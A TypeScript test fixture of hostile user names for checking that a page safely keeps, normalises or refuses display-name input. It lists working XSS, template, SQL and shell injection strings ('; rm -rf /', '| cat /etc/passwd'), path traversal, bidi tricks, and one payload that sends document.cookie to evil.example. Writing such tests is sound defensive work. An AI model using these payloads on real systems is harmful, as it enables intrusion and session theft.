// Names that nobody means well with. Each tries to become something else than text: script, markup, a style, a
// template, a format string, another direction of reading. `p` is a function of the page under test that tells on them.

/** Kept letter by letter as they are typed; each has at most 24 characters and 96 bytes. */
export const keptAsTyped = [
  // script tags
  '<script>p()</script>', '<SCRIPT>p()</SCRIPT>', '<ScRiPt>p()</sCrIpT>', '<script >p()</script >', '<script/x>p()</script>',
  '<script src=//x.y></a>', '<script src=//x.y>', '<script src="//x.y">', '"><script>p()</script>', "'><script>p()</script>",
  '</h3><script>p()</scrip', '</span><script>p()//', '</title><script>p()//', '</style><script>p()//', '</textarea><script>p()',
  '<<script>p()//<</script>', '<script>p()<!--', '<script\\x20>p()', '</script><script>p()', '--><script>p()</script>',
  ']]><script>p()</script>', '<script type=module>p()', '<script>/*', '*/p()</script>', '<noscript><script>p()',
  '<template><script>p()', '<script>import("x")', '<script defer>p()', '<xss><script>p()', '%3Cscript%3Ep()',
  // handlers of events
  '<img src=x onerror=p()>', '<img src onerror=p()>', '<img/src/onerror=p()>', '<img onerror=p() src=x>', '<IMG SRC=x ONERROR=p()>',
  '<img src=x onerror="p()', "<img src=x onerror='p()", '<img src=x onerror=`p()', '"><img src onerror=p()>', '<body onload=p()>',
  '<body onpageshow=p()>', '<body onfocus=p()>', '<input onfocus=p() auto', '<input autofocus onfocus', '<a onmouseover=p()>A',
  '<b onclick=p()>Bo</b>', '<b onpointerenter=p()>', '<p onanimationend=p()>', '<div onwheel=p()>', '<video onerror=p()>',
  '<audio src onerror=p()>', '<video src onerror=p()>', '<details open ontoggle=p', '<marquee onstart=p()>', '<select autofocus onf',
  '<form onformdata=p()>', '<object onerror=p()>', '<embed onload=p()>', '<iframe onload=p()>', '<frameset onload=p()>',
  '<style onload=p()>', '<link onerror=p() href=x', '<x onclick=p()>Cy', '<x tabindex=1 onfocus=p', '" onmouseover="p()',
  "' onmouseover='p()", '" onfocus=p() autofocus', '` onmouseover=`p()', '"onclick=p()//', "'onclick=p()//",
  // SVG, MathML and other foreign markup
  '<svg onload=p()>', '<svg/onload=p()>', '<SVG ONLOAD=p()>', '<svg><script>p()', '<svg><a href=//x>A',
  '<svg><animate onend=p()', '<svg><set onbegin=p()>', '<svg><use href=data:>', '<svg><style>*{}', '<svg><title><p>',
  '<math><mi href=//x>', '<math><mtext><p>', '<svg></p><style><a>', '<foreignObject><p>', '<![CDATA[<p>]]>',
  // addresses that run
  'javascript:p()', 'JavaScript:p()', 'javascript://%0ap()', 'javascript&colon;p()', 'java\\nscript:p()',
  'data:text/html,<p>', 'data:,p()', 'vbscript:p()', '<a href=javascript:p()>', '<iframe src=javascript:',
  '<form action=javascript:', '<base href=//evil.x/>', '<meta http-equiv=refresh', '<object data=data:>', '<embed src=javascript:p',
  '//evil.example/x', 'https://evil.example', '[x](javascript:p())', '![x](//evil.x/p.png)', 'file:///etc/passwd',
  // templates of all sorts
  '{{p()}}', '{{7*7}}', '${p()}', '${7*7}', '#{7*7}',
  '<%= 7*7 %>', '{% if p %}', '{@html "<p>"}', '{#if true}{p()}{/if}', '{p()}',
  '@{p()}', '[[p()]]', '{{constructor}}', '{{$on.constructor}}', '`${p()}`',
  '$1', '$&', '%s%s%n', '%d %x', '{0}',
  '\\u003cp\\u003e', '\\x3cp\\x3e', '\\074p\\076', '%00', '%0d%0aSet-Cookie:a=b',
  // the client's texts are Fluent
  '{ $x }', '{ $name }', '{$who}', '{ -term }', '-term',
  '{ app-name }', '{ "x" }', '{ DATETIME($x) }', '{ $n ->', '[one] x *[other] y',
  '}', '{', '{{', '= x', '.attr = x',
  '# comment', 'app-name = x', '*[other]', '{ NUMBER(1) }', '{""}',
  // entities
  '&lt;script&gt;', '&lt;b&gt;Bo&lt;/b&gt;', '&#60;p&#62;', '&#x3c;p&#x3e;', '&amp;lt;',
  '&amp;', '&', '&quot;', '&apos;', '&nbsp;',
  '&NewLine;', '&Tab;', '&#0;', '&#8238;', '&bogus;',
  // quotes, comments, ends of things, queries
  '"', "'", '`', '""', "''",
  '\\', '\\"', "\\'", '//', '/*',
  '<!--', '-->', '<!-- -->', '<', '>',
  '</', '/>', '<>', '</p>', '<?xml?>',
  '<!DOCTYPE html>', "' OR '1'='1", "'; DROP TABLE person--", '" OR ""="', "Robert'); --",
  '$(id)', '`id`', '; rm -rf /', '| cat /etc/passwd', '../../etc/passwd',
  '","name":"Bo', '{"t":"act"}', '\\u0022', '[object Object]', 'undefined',
  'null', 'NaN', 'true', '0', '-1',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype',
  // styles
  '<style>*{display:none}', '<style>@import"//x.y"', '</style>', '*{display:none}', 'color:red;',
  '" style="display:none', "' style='color:red", 'expression(p())', 'url(javascript:p())', '@import url(//x.y)',
  '<link rel=stylesheet>', '<p style=position:fixed>', '<font color=red>Bo', '<b>Bo</b>', '<h1>Ann</h1>',
  '<plaintext>', '<xmp>', '<textarea>', '<title>', '<noembed>',
  '<br>', '<hr>', '<table><td>', '</div></div></div>', '</body></html>',
  // right to left, other scripts, signs of several code points
  'שלום', 'مرحبا', 'אבג abc', 'سلام 123', 'ابن <b>',
  '张伟', 'ひらがな', '한국어', 'ไทย', 'हिन्दी',
  'Ω≈ç√∫˜µ≤', 'ﬁ', 'Ａｎｎ', 'ａｌｅｒｔ（）', '＜script＞',
  '‹script›', '﹤p﹥', '😀', '😀😀😀😀😀😀😀😀😀😀😀😀', '👩‍👧',
  '👨‍👩‍👧‍👦', '🇨🇦', '👋🏽', '❤️', '1️⃣',
  '🏳️‍🌈', '¡Olé!', 'ßẞ', 'İi', 'ŉ',
  // as long as a name may be
  'W'.repeat(24), 'i'.repeat(24), '\u{1F984}'.repeat(24), '張'.repeat(24), 'é'.repeat(24),
  '<'.repeat(24), '&'.repeat(24), '"'.repeat(24), '{'.repeat(24), '﷽'.repeat(24),
];

/** What is left of these when what cannot be seen, and what turns or piles up text, is left out. */
export const keptOtherwise = [
  ['A\u202Enn', 'Ann'], ['\u202Egnp.exe', 'gnp.exe'], ['\u2067Ann\u2069', 'Ann'], ['\u200FAnn\u200E', 'Ann'],
  ['\u061CAnn', 'Ann'], ['A\u200B\u200B\u200Bnn', 'Ann'], ['\uFEFFAnn', 'Ann'], ['A\u2060nn', 'Ann'],
  ['\u00ADAnn', 'Ann'], ['A\u0000nn', 'Ann'], ['A\u0007nn', 'Ann'], ['\u001B[31mAnn', '[31mAnn'],
  ['Ann\r\nBo', 'Ann Bo'], ['Ann\tBo', 'Ann Bo'], ['Ann\u2028Bo', 'Ann Bo'], ['  Ann  ', 'Ann'],
  ['Ann\u00A0\u3000Bo', 'Ann Bo'], ['Zoe\u0308', 'Zoë'], ['e\u0301', 'é'], ['\u212Bke', 'Åke'],
  ['<scr\u0000ipt>p()</script>', '<script>p()</script>'], ['<scr\u200Bipt>p()</script>', '<script>p()</script>'],
  ['java\u0000script:p()', 'javascript:p()'], ['java\tscript:p()', 'java script:p()'], ['<img\nsrc\nonerror=p()>', '<img src onerror=p()>'],
  [`Z${'\u0334'.repeat(40)}`, `Z${'\u0334'.repeat(4)}`], [`H${'\u0300\u0316'.repeat(20)}i`, 'H\u0316\u0316\u0316\u0316i'],
  ['\u{E0041}Ann', 'Ann'], ['\uE000Ann', 'Ann'], ['A\u200D\u200D\u200Dnn', 'A\u200Dnn'],
];

/** Refused: the name stays as it was. */
export const refused = [
  '', ' ', '\u200B', '\u202E\u202C', '\u3164', '\u2800', 'W'.repeat(25), 'é'.repeat(25), '\u{1F984}'.repeat(25),
  '<script>alert(document.cookie)</script>', '👨‍👩‍👧‍👦'.repeat(4), `${'Z\u0334\u0334\u0334\u0334'.repeat(24)}`, 'x'.repeat(4000),
  "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
];
